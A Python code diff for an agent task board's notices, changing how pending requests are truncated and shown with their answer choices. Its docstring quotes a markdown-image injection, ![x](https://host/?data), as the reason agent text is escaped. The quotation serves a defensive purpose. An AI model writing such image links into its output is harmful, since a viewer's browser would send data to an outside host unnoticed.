@@ -175,7 +175,7 @@ class Views:
                 [TaskView.of(t, *derived[t.id], now) for t in tasks]
             ),
             state=self.run_state(),
-            notes=self.notices(now, ended_paused=not as_shown),
+            notes=self.notices(now, ended_paused=not as_shown, shown=as_shown),
             budget=self._shown_budget(now),
         ).model_dump_json(by_alias=True, exclude_none=True)
 
@@ -247,7 +247,11 @@ class Views:
         return values
 
     def notices(
-        self, now: datetime | None = None, ended_paused: bool = False, markdown: bool = False
+        self,
+        now: datetime | None = None,
+        ended_paused: bool = False,
+        markdown: bool = False,
+        shown: bool = True,
     ) -> list[str]:
         """The lines above the board: review, pause, questions, replanning, sandbox, mode, and
         (given the time) the budget. ``ended_paused``: a paused run that ended still says it is
@@ -255,7 +259,9 @@ class Views:
         which renders markdown and HTML — the words of agents and people in them (a question, a
         tool call's arguments, a pause's reason, a refused message) are made literal text there
         (an agent's question ``![x](https://host/?data)`` made the person's browser fetch that
-        address when the board was looked at; a link or heading showed as the leader's own)."""
+        address when the board was looked at; a link or heading showed as the leader's own).
+        ``shown`` False: the board a run stores as it ends (whole_board), as it always was — its
+        size decides how many parts are stored, commands a replay must make alike."""
 
         def literal(text: str) -> str:
             return markdown_inline(text) if markdown else text
@@ -291,7 +297,14 @@ class Views:
         for r in self.requests.pending:
             # (the budget's are the leader's own words, fixes included: kept whole)
             text = " ".join(r.text.split())
-            text = text if r.about == "budget" else literal(text[:160])
+            if r.about != "budget" and shown:
+                # cut where a word ends, said so, and a call in doubt's answers always given
+                # (walk8: "It is not repeated without your say (th" — its answers were past 160)
+                cut = text if len(text) <= 160 else text[:160].rsplit(" ", 1)[0] + " …"
+                answers = f" — answers: {', '.join(r.choices)}" if r.choices else ""
+                text = literal(cut + answers)
+            elif r.about != "budget":
+                text = literal(text[:160])
             notes.append(f"**{literal(r.id)}** ({r.kind}, {literal(r.task_id)}): {text}")
         if self.flow.replanning:
             notes.append("replanning…")
